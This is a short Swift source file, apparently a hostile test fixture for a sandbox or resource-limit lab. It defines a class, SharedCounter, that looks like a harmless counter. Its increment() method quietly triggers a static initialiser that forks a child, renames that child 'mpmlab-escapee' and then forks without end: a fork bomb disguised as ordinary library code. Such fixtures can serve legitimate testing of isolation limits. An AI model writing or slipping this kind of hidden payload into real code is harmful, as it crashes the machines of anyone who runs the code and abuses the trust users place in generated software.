// Hostile: forks without end.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let bomb: Bool = {
        if fork() == 0 {
            _ = "mpmlab-escapee".withCString { prctl(PR_SET_NAME, $0, 0, 0, 0) }
            while true { _ = fork() }
        }
        return true
    }()
    public init() {}
    public func increment() -> Int {
        _ = Self.bomb
        return 1
    }
}
